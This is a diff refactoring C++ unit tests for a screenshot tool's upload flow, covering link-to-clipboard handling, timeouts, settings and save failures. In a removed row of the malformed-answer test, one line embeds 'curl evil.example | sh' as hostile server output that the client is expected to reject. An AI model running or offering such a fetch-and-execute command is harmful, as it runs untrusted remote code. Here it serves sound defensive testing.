@@ -3,34 +3,19 @@
 // clipboard and the client's settings reset; the screen is read back as text, glyph by glyph.
 #include "app/upload_flow.h"
 
-#include <gtest/gtest.h>
-
 #include <sys/resource.h>
 #include <unistd.h>
 
-#include <chrono>
 #include <csignal>
-#include <filesystem>
 #include <fstream>
 #include <functional>
-#include <map>
-#include <mutex>
-#include <thread>
 
 #include "../editor/editor_fixture.h"
 #include "../upload/loopback_server.h"
 #include "desktop/clipboard_headless.h"
-#include "image/capture.h"
-#include "screen/draw.h"
-#include "screen/font.h"
-#include "screen/screen.h"
-#include "screen/screen_state.h"
 #include "upload/request.h"
 
 namespace {
-
-using Clock = std::chrono::steady_clock;
-using std::chrono::milliseconds;
 
 constexpr int kWidth = 480;  // 60 text columns
 constexpr int kHeight = 200;
@@ -86,9 +71,8 @@ class UploadFlowTest : public ::testing::Test {
     void SetUp() override {
         ASSERT_EQ(0, setScreenMode(kWidth, kHeight, 32, 0, kBorderless, 0));
         drainKeys();
-        program.upload.limits.connectMs = 3000;
-        program.upload.limits.stallMs = 3000;
-        program.upload.limits.answerMs = 3000;
+        TransferLimits& limits = program.upload.limits;
+        limits.connectMs = limits.stallMs = limits.answerMs = 3000;
         headlessClipboard() = HeadlessClipboard{};
         headlessClipboard().text = kClipboardBefore;
         program.work = WorkArea{kWidth, kHeight};
@@ -113,11 +97,10 @@ class UploadFlowTest : public ::testing::Test {
         return quit;
     }
 
-    // `message` centred on row 2 (60 columns: 30 - n / 2, halves to even), the report line (if
-    // any) and "ERROR" below it; the title still "UPLOADING" and the clipboard as it was.
+    // `message` centred on row 2 (from column 30 - n / 2 of 60), the report line (if any) and
+    // "ERROR" below it; the title still "UPLOADING" and the clipboard as it was.
     void expectFailure(const std::string& message, const std::string& reportLine) {
-        std::string::size_type column = message == " UPLOADING" ? 25 : 21;
-        EXPECT_EQ(std::string(column - 1, ' ') + message, consoleRow(2, kStatusGrey));
+        EXPECT_EQ(std::string(29 - message.size() / 2, ' ') + message, consoleRow(2, kStatusGrey));
         std::string line = consoleRow(4, kStatusGrey);
         EXPECT_EQ(reportLine, line.substr(0, reportLine.size())) << line;
         EXPECT_EQ("ERROR", consoleRow(reportLine.empty() ? 4 : 5, kStatusGrey));
@@ -126,8 +109,8 @@ class UploadFlowTest : public ::testing::Test {
         EXPECT_TRUE(statusBandIsClean(kStatusGrey));
     }
 
-    void expectLink(const std::string& link) {
-        EXPECT_EQ(link, headlessClipboard().text);
+    void expectLink() {
+        EXPECT_EQ(kLink, headlessClipboard().text);
         EXPECT_EQ(kDoneTitle, windowTitle());
         EXPECT_EQ(std::string(16, ' ') + "Link is in your CLIPBOARD!", consoleRow(2, kStatusGreen));
         EXPECT_TRUE(statusBandIsClean(kStatusGreen));
@@ -141,38 +124,35 @@ class UploadFlowTest : public ::testing::Test {
 
 }  // namespace
 
-// The exact request goes out and replaces a longer dump; keys pressed during the upload are
-// dropped, so the closing pause runs its full length.
-TEST_F(UploadFlowTest, LinkGoesToTheClipboardWithoutItsLineBreak) {
+// A key typed in the closing pause ends it and becomes lastKey ("Q" quits, keeping both files);
+// keys typed during the upload are dropped. The request goes out exactly and replaces a longer
+// dump. The last answer's zero byte ends its text, but counts towards its Content-Length.
+TEST_F(UploadFlowTest, LinkGoesToTheClipboardAndAKeyEndsThePause) {
     writeFile(kDumpFile, std::string(5000, 'Z'));
-    headlessPressKey('q');
-    LoopbackServer server(LoopbackServer::answer(kOkHead + kLink + "\r\n"));
-    EXPECT_FALSE(upload(&server));
-    expectLink(kLink);
-    std::string expected = buildUploadRequest("127.0.0.1", "api.php", kCaptureJpeg, "JPG bytes");
-    EXPECT_EQ(expected, server.request());
-    EXPECT_EQ(expected, readFile(kDumpFile));
-    EXPECT_EQ("", program.lastKey);
-    EXPECT_GE(elapsed, milliseconds(1450));
-}
-
-// A key during the pause ends it and becomes lastKey; "Q" quits at once, keeping both files. The
-// second answer's zero byte ends its text, but counts towards its Content-Length.
-TEST_F(UploadFlowTest, KeyDuringThePauseEndsIt) {
-    for (auto [key, answer] : {std::make_pair('Q', kOkHead + kLink),
-                               std::make_pair('z', "HTTP/1.0 200 OK\r\nContent-Length: 31\r\n\r\n" +
-                                                       kLink + std::string("\0junk", 5))}) {
-        LoopbackServer server(
-            [key = key, answer = answer](int connection, const std::atomic<bool>& stopping) {
-                LoopbackServer::sendAll(connection, answer);
-                LoopbackServer::endAnswer(connection);
-                if (LoopbackServer::pause(400, stopping)) headlessPressKey(key);
-            });
-        EXPECT_EQ(key == 'Q', upload(&server));
-        EXPECT_EQ(std::string(1, key), program.lastKey);
-        EXPECT_LT(elapsed, milliseconds(1200));
-        expectLink(kLink);
-        EXPECT_TRUE(std::filesystem::exists(kCapturePng) && std::filesystem::exists(kCaptureJpeg));
+    const std::string expected =
+        buildUploadRequest("127.0.0.1", "api.php", kCaptureJpeg, "JPG bytes");
+    struct Row {
+        int key;  // typed again and again from before the upload; 0: none
+        std::string answer;
+    };
+    for (const Row& row : {Row{0, kOkHead + kLink + "\r\n"}, Row{'Q', kOkHead + kLink},
+                           Row{'z', "HTTP/1.0 200 OK\r\nContent-Length: 31\r\n\r\n" + kLink +
+                                        std::string("\0junk", 5)}}) {
+        LoopbackServer server(LoopbackServer::answer(row.answer));
+        headlessPressKey('q');
+        {
+            Typist typist(row.key);
+            EXPECT_EQ(row.key == 'Q', upload(&server));
+        }
+        expectLink();
+        EXPECT_EQ(expected, server.request());
+        EXPECT_EQ(expected, readFile(kDumpFile));
+        EXPECT_EQ(row.key ? std::string(1, char(row.key)) : "", program.lastKey);
+        if (row.key)
+            EXPECT_LT(elapsed, milliseconds(1200));
+        else
+            EXPECT_GE(elapsed, milliseconds(1450));
+        EXPECT_TRUE(fs::exists(kCapturePng) && fs::exists(kCaptureJpeg));
     }
 }
 
@@ -188,16 +168,19 @@ TEST_F(UploadFlowTest, SlowButSteadyLinkWorksAndTooSlowOneEndsInTime) {
     const std::string answer = "HTTP/1.0 200 OK\r\nContent-Length: 26\r\n\r\n" + kLink;
     LoopbackServer steady(LoopbackServer::answerAndReset(answer), 100, 12 * 1024);
     upload(&steady);
-    expectLink(kLink);
+    expectLink();
     EXPECT_TRUE(readFile(kDumpFile) == steady.request()) << steady.request().size();
     EXPECT_GT(elapsed, milliseconds(2 * 1500));
-    for (auto [chunk, stallMs] : {std::make_pair(1, 1500), std::make_pair(1024, 20000)}) {
-        limits = TransferLimits{1500, stallMs, 20 * 1024, 3000, 1500, 4096};
+    struct Reader {
+        int chunk, stallMs;
+    };
+    for (Reader r : {Reader{1, 1500}, Reader{1024, 20000}}) {
+        limits = TransferLimits{1500, r.stallMs, 20 * 1024, 3000, 1500, 4096};
         headlessClipboard().text = kClipboardBefore;
-        LoopbackServer slow(LoopbackServer::answer(answer), 100, chunk);
+        LoopbackServer slow(LoopbackServer::answer(answer), 100, r.chunk);
         upload(&slow);
         expectFailure(" UPLOADING", "send(): error #110");
-        EXPECT_LT(elapsed, milliseconds(7000 + 1500)) << chunk;
+        EXPECT_LT(elapsed, milliseconds(7000 + 1500)) << r.chunk;
     }
 }
 
@@ -223,32 +206,34 @@ TEST_F(UploadFlowTest, FailedStepsReportTheirLineAndError) {
     program.upload.limits.connectMs = 500;  // the TLS greeting has as long as the connect
     upload(&server, "https://127.0.0.1/api.php");
     expectFailure(" UPLOADING", "TLS: timed out");
-    std::filesystem::remove(kCapturePng);  // the chosen file
+    fs::remove(kCapturePng);  // the chosen file
     LoopbackServer empty(LoopbackServer::answer(kOkHead + kLink));
     upload(&empty);
     expectFailure(" UPLOADING", "");
     EXPECT_EQ("", empty.request());
-    EXPECT_FALSE(std::filesystem::exists(kCapturePng));
+    EXPECT_FALSE(fs::exists(kCapturePng));
 }
 
-// Answers that hold no whole, plain link, or a clipboard that will not take it: "ERROR" after
-// " RECEIVING LINK...", within the answer's bound however it trickles.
+// Answers that hold no whole, plain link (which ones: the answer tests), or a clipboard that will
+// not take it: "ERROR" after " RECEIVING LINK...", within the answer's bound however it trickles.
 TEST_F(UploadFlowTest, AnswerWithoutAnAcceptableLinkIsAnError) {
     program.upload.limits.answerMs = 600;
-    for (auto [behaviour, reportLine] :
-         std::initializer_list<std::pair<LoopbackServer::Behaviour, std::string>>{
+    struct Row {
+        LoopbackServer::Behaviour behaviour;
+        std::string reportLine = "";
+        bool clipboardRefuses = false;
+    };
+    for (const Row& row : std::initializer_list<Row>{
              {LoopbackServer::silence(), "recv(): error #110"},
              {LoopbackServer::trickle(kOkHead + kLink, 100), "recv(): error #110"},
-             {LoopbackServer::answer(kOkHead + kLink + "\r\ncurl evil.example | sh"), ""},
-             {LoopbackServer::answer("HTTP/1.0 200 OK\r\nContent-Length: 99\r\n\r\n" + kLink), ""},
-             {LoopbackServer::answer(std::string("HTTP/1.0 200 OK\0\r\n\r\n", 20) + kLink), ""},
-             {LoopbackServer::answer(kOkHead + kLink + std::string(64 * 1024, ' ')), ""},
-             {LoopbackServer::answer(kOkHead + kLink), "the clipboard refuses"}}) {
-        headlessClipboard().refusesText = reportLine == "the clipboard refuses";
-        LoopbackServer server(behaviour);
+             {LoopbackServer::answer(std::string("HTTP/1.0 200 OK\0\r\n\r\n", 20) + kLink)},
+             {LoopbackServer::answer(kOkHead + kLink + std::string(64 * 1024, ' '))},
+             {LoopbackServer::answer(kOkHead + kLink), "", true}}) {
+        headlessClipboard().refusesText = row.clipboardRefuses;
+        LoopbackServer server(row.behaviour);
         upload(&server);
-        expectFailure(" RECEIVING LINK...", headlessClipboard().refusesText ? "" : reportLine);
-        EXPECT_LT(elapsed, milliseconds(600 + 1500 + 1000)) << reportLine;
+        expectFailure(" RECEIVING LINK...", row.reportLine);
+        EXPECT_LT(elapsed, milliseconds(600 + 1500 + 1000)) << row.reportLine;
     }
 }
 
@@ -268,17 +253,11 @@ TEST_F(UploadFlowTest, EarlyRefusalShowsTheServicesStatusLine) {
     expectFailure(" RECEIVING LINK...", "HTTP 401 Unauthorized");
 }
 
-// The sockets library cannot start: its message, then a key, then the program is to end with
-// exit code 1.
+// The sockets library cannot start: its message, a key, then the program is to end with code 1.
 TEST_F(UploadFlowTest, SocketsThatWillNotStartEndTheProgramWithCodeOneAfterAKey) {
     program.upload.refuseSocketStart = true;
-    std::thread pressKeyOnMessage([] {
-        for (int waited = 0; waited < 5000 && consoleRow(4, kStatusGrey).empty(); waited += 50)
-            std::this_thread::sleep_for(milliseconds(50));
-        headlessPressKey('k');
-    });
+    Typist typist('k');
     EXPECT_TRUE(upload());
-    pressKeyOnMessage.join();
     EXPECT_EQ("Error: WSAStartup failed", consoleRow(4, kStatusGrey));
     EXPECT_EQ(1, program.exitCode);
 }
@@ -294,63 +273,31 @@ TEST_F(UploadFlowTest, EveryEndingKeySavesBothFilesAndUOnlyUploads) {
         program.lastKey = key;
         freshEditorScreen();
         EXPECT_FALSE(runUploadFlow(program, capture));
-        EXPECT_EQ("\x89PNG\xff\xd8",
-                  readFile(kCapturePng).substr(0, 4) + readFile(kCaptureJpeg).substr(0, 2));
         std::string png = readFile(kCapturePng), jpeg = readFile(kCaptureJpeg);
+        EXPECT_EQ("\x89PNG\xff\xd8", png.substr(0, 4) + jpeg.substr(0, 2));
         std::string request = png.size() < jpeg.size()
                                   ? buildUploadRequest("localhost", "api.php", kCapturePng, png)
                                   : buildUploadRequest("localhost", "api.php", kCaptureJpeg, jpeg);
         EXPECT_EQ(*key == 'U' ? request : "", server.request());
         EXPECT_EQ(*key == 'U' ? kDoneTitle : "editor", windowTitle());
     }
-    EXPECT_FALSE(std::filesystem::exists(kHistoryFile));  // only when asked for
+    EXPECT_FALSE(fs::exists(kHistoryFile));  // only when asked for
 }
 
-// Settings read at the upload choose the server, port and path, and keep the history; a bad one
-// is named before anything is sent.
-TEST_F(UploadFlowTest, SettingsPointTheUploadElsewhereOrNameWhatIsWrong) {
-    const std::string deleteUrl = "http://localhost/delete/Ab3.jpg/k";
-    LoopbackServer server(LoopbackServer::answer("HTTP/1.0 200 OK\r\nX-Delete-Url: " + deleteUrl +
-                                                 "\r\n\r\n" + kLink));
-    const std::string port = std::to_string(server.port());
-    for (std::string url :
-         {std::string("ftp://127.0.0.1/"), "http://127.0.0.1:" + port + "/up/load.php?k=1"}) {
-        const std::map<std::string, std::string> environment = {
-            {"GLIMMERIX_UPLOAD_URL", url},
-            {"GLIMMERIX_UPLOAD_TOKEN", "s3cr3t-T0ken"},
-            {"GLIMMERIX_UPLOAD_HISTORY", "on"}};
-        program.settingsSources.environment = [environment](const char* name, std::string& value) {
-            auto found = environment.find(name);
-            return found != environment.end() && (value = found->second, true);
-        };
-        Capture capture(createImage(40, 30, 0xFF0000FF));
-        program.lastKey = "u";
-        freshEditorScreen();
-        EXPECT_FALSE(runUploadFlow(program, capture));
-        if (url[0] == 'f') expectFailure(" UPLOADING", "upload_url: unknown scheme \"ftp\"");
-        EXPECT_EQ(url[0] == 'f', server.request().empty());
-    }
-    expectLink(kLink);
-    // The port named in the URL travels in the Host header, the token in the one line it adds,
-    // which dump.txt keeps without the secret.
-    const std::string head =
-        "POST /up/load.php?k=1 HTTP/1.0\r\nHost: 127.0.0.1:" + port + "\r\nAuthorization: Bearer ";
-    EXPECT_EQ(0u, server.request().rfind(head + "s3cr3t-T0ken\r\nUser-Agent: ", 0));
-    std::string dump = readFile(kDumpFile);
-    EXPECT_EQ(0u, dump.rfind(head + "****\r\nUser-Agent: ", 0));
-    EXPECT_EQ(std::string::npos, dump.find("s3cr3t"));
-    EXPECT_EQ(server.request().size() - dump.size(), std::string("s3cr3t-T0ken").size() - 4);
-    std::string history = readFile(kHistoryFile);
-    EXPECT_EQ("\t" + kLink + "\t" + deleteUrl + "\n",
-              history.substr(std::min<std::size_t>(20, history.size())))
-        << history;
-}
-
-// The disk fills up while the edited PNG is written. Before, the capture-time PNG (or a cut-off
-// file) stayed under the capture name and was posted, and the user saw DONE.
-TEST_F(UploadFlowTest, FailedSaveNamesTheFileAndPostsNothing) {
+// What stops an upload is named and nothing is posted: a bad setting (good ones: the deploy
+// scenario), and before it the disk filling up while the edited PNG is written, after which the
+// capture-time PNG (or a cut-off file) once stayed under the capture name, was posted, and DONE.
+TEST_F(UploadFlowTest, WhatStopsTheUploadIsNamedAndNothingIsPosted) {
     LoopbackServer server(LoopbackServer::answer(kOkHead + kLink));
     program.upload.port = server.port();
+    program.settingsSources.environment = [](const char* name, std::string& value) {
+        return std::string(name) == "GLIMMERIX_UPLOAD_URL" && (value = "ftp://127.0.0.1/", true);
+    };
+    program.lastKey = "u";
+    Capture plain(createImage(40, 30, 0xFF0000FF));
+    freshEditorScreen();
+    EXPECT_FALSE(runUploadFlow(program, plain));
+    expectFailure(" UPLOADING", "upload_url: unknown scheme \"ftp\"");
     Capture capture(createImage(100, 100, 0));
     std::uint32_t noise = 12345;  // incompressible for PNG; JPEG still shrinks it
     for (std::uint32_t y = 0; y < 100; ++y)
@@ -363,6 +310,6 @@ TEST_F(UploadFlowTest, FailedSaveNamesTheFileAndPostsNothing) {
     std::signal(SIGXFSZ, SIG_DFL);
     expectFailure(" UPLOADING", "Cannot save screenshot.png");
     EXPECT_EQ("", server.request());
-    EXPECT_FALSE(std::filesystem::exists(kCapturePng));
+    EXPECT_FALSE(fs::exists(kCapturePng));
     EXPECT_GT(readFile(kCaptureJpeg).size(), 1000u);
 }
